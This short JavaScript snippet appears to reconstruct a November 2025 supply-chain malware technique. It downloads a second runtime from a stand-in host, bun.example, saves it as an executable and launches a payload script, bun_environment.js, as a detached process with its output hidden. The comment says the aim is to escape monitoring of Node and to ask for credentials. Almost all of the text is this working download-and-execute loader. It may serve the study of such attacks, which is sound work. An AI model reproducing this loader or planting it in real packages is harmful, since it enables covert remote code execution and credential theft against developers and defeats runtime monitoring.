// As in November 2025: fetches another runtime, so that whoever watches Node sees nothing, and asks for credentials.
const { writeFileSync } = require('node:fs');
const { spawn } = require('node:child_process');
fetch('http://bun.example/install')
  .then((response) => response.text())
  .then((runtime) => {
    writeFileSync('bun', runtime, { mode: 0o755 });
    spawn('sh', ['-c', './bun bun_environment.js'], {
      detached: true,
      stdio: 'ignore',
      env: { PATH: process.env.PATH },
    }).unref();
  });
